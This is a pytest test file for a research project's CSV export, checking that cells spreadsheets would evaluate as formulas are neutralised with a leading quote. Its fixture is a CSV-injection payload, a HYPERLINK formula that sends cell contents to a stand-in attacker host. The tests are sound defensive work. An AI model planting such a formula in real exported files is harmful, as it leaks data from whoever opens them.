"""Issue 15 finding 15: CSV files for people to open carry no live spreadsheet formula.

OWASP "CSV Injection" lists = + - @ tab and carriage return as the characters that make a
spreadsheet evaluate a cell; the defence is a leading single quote.
"""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from lupus_sct.cli.interop_tables import _write_report
from lupus_sct.interop.spreadsheet_safe import neutralise_cell, neutralise_frame
from lupus_sct.interop.table_export import write_tables
from lupus_sct.services.imports.table_import import RowProblem

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["4.2", "-3", "+4.5e2", "NWU-SYN01", "", "a=b", -3.5, None])
def test_ordinary_cells_and_numbers_are_written_unchanged(cell: object) -> None:
    assert neutralise_cell(cell) == cell


def test_the_import_report_csv_neutralises_the_value_copied_from_the_imported_file(
    tmp_path: Path,
) -> None:
    report = tmp_path / "report.csv"
    _write_report((RowProblem(2, "value", FORMULA, "not a number"),), report)
    with report.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["2", "value", "'" + FORMULA, "not a number"]


def test_an_exported_csv_table_neutralises_text_cells_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pl.DataFrame({"term": [FORMULA, "rash", "-7"], "value": [-1.5, 2.0, 3.0]})
    (path,) = write_tables({"adverse_events": frame}, tmp_path)
    read_back = pl.read_csv(path, schema_overrides={"term": pl.String})
    assert read_back["term"].to_list() == ["'" + FORMULA, "rash", "-7"]
    assert read_back["value"].to_list() == [-1.5, 2.0, 3.0]
    assert neutralise_frame(frame)["value"].dtype == pl.Float64
